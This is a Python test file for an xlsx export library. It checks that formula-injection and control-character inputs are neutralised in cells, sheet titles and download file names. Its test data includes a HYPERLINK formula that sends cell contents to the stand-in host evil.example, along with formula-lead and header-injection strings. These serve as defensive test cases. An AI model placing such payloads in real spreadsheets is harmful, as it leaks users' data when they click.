"""Issue 10, findings 3 (formula injection) and 7 (control characters): the one
cell-sanitising function every .xlsx writer goes through, and both writers with it."""

from __future__ import annotations

import datetime
import io
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from qingfeng.lib.cells import safe_cell, safe_filename, safe_text, unquoted
from qingfeng.lib.errors_workbook import errors_workbook
from qingfeng.lib.plain_xlsx import plain_workbook
from qingfeng.lib.tabular import Issue, cell
from qingfeng.lib.xlsx import Sheet, attachment, workbook_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x01=1+1", "'=1+1"),  # the control character goes first, then the formula
        ("a\x00b\x08c\x0bd\x0ce\x1ff", "abcdef"),
        ("line\nbreak and\ttab", "line\nbreak and\ttab"),  # allowed inside a text
        ("'=x", "''=x"),  # already quoted: one more, so the reader gets it back exactly
        ("公车私用", "公车私用"),
        ("it's fine", "it's fine"),
        ("", ""),
    ],
)
def test_finding_3_7_text_is_made_safe(text: str, written: str) -> None:
    assert safe_text(text) == written
    assert safe_cell(text) == written


@pytest.mark.parametrize("value", [-3, -2.5, 0, 1.5, None, True, datetime.date(2026, 1, 2)])
def test_finding_3_other_values_are_left_alone(value: Any) -> None:
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", [HYPERLINK, "-abc", "'=x", "''+y", "plain", "'quoted"])
def test_finding_3_readers_get_the_text_back(text: str) -> None:
    assert unquoted(safe_text(text)) == text
    assert cell(safe_text(text)) == text


def test_finding_7_file_names_are_safe_for_a_header() -> None:
    assert safe_filename('a"b\r\nc\x01/d.xlsx') == "a_b__c_d.xlsx"
    assert safe_filename("\x01") == "export.xlsx"
    header = attachment('T-2025Q1-\x01\n"x".xlsx')
    assert "\n" not in header and "\x01" not in header
    assert header.startswith('attachment; filename="T-2025Q1-__x_.xlsx"')


def _read_back(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


# Any text: control characters, surrogate-free unicode, formula leads in front.
texts = st.one_of(
    st.text(),
    st.builds(lambda lead, rest: lead + rest, st.sampled_from("=+-@\t\r'\x01"), st.text()),
)


@settings(max_examples=150, deadline=None)
@given(texts)
def test_finding_3_7_any_text_written_by_openpyxl_is_never_a_formula(text: str) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.cell(row=1, column=1, value=safe_cell(text))
    buffer = io.BytesIO()
    book.save(buffer)
    (read,) = _read_back(buffer.getvalue())
    assert read.data_type != "f"
    if safe_text(text):
        # A carriage return may come back as a line feed (XML's end-of-line handling) or
        # as itself (openpyxl escapes some); line ends aside, the text is as written.
        def lines(value: str) -> str:
            return value.replace("\r\n", "\n").replace("\r", "\n")

        assert lines(read.value) == lines(safe_text(text))


@settings(max_examples=60, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4))
def test_finding_3_7_every_writer_keeps_any_text_a_text(values: list[str]) -> None:
    sheet = Sheet(values[0], ["h", *values], [values, [*values, -1.5]], title=values[-1])
    outputs = [
        workbook_bytes([sheet], write_only=False),
        workbook_bytes([sheet], write_only=True),
        plain_workbook({"items": (["a", *values], [values, [*values, -1.5]])}),
    ]
    for data in outputs:
        cells = _read_back(data)
        assert all(c.data_type != "f" for c in cells)
        assert -1.5 in [c.value for c in cells]  # a negative number stays a number


def test_finding_3_the_streaming_and_openpyxl_writers_write_the_same_text() -> None:
    rows = [[HYPERLINK, "\x01@x", -2, "ok"]]
    sheet = Sheet("\x01[bad]:name'", ["=h", "b", "c", "d"], rows, title="=title\x02")
    for write_only in (False, True):
        book = load_workbook(io.BytesIO(workbook_bytes([sheet], write_only=write_only)))
        ws = book.worksheets[0]
        assert ws.title == "_bad__name"
        values = [[c.value for c in row] for row in ws.iter_rows()]
        assert values[0][0] == "'=title"
        assert values[2] == ["'=h", "b", "c", "d"]
        assert values[3] == ["'" + HYPERLINK, "'@x", -2, "ok"]


def test_finding_3_7_the_errors_workbook_of_a_hostile_csv_is_safe() -> None:
    quoted = HYPERLINK.replace('"', '""')
    data = f'unit,note\nU-1,"{quoted}"\nU-2,\x01@x\n'.encode()
    issues = [
        Issue("", 2, "note", 'unknown value "\x01=1+1"'),
        Issue("", 3, "unit", "\x01=bad"),
    ]
    book = errors_workbook(data=data, filename="r.csv", issues=issues, sheet="records")
    assert book is not None
    cells = _read_back(book)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert "'" + HYPERLINK in values
    assert "'@x" in values
    # The note column named in the active language ("column note" / “备注”列（note）).
    assert any(str(v).endswith('unknown value "=1+1"') and "note" in str(v) for v in values), values
    assert any(str(v).endswith("=bad") and "unit" in str(v) for v in values), values
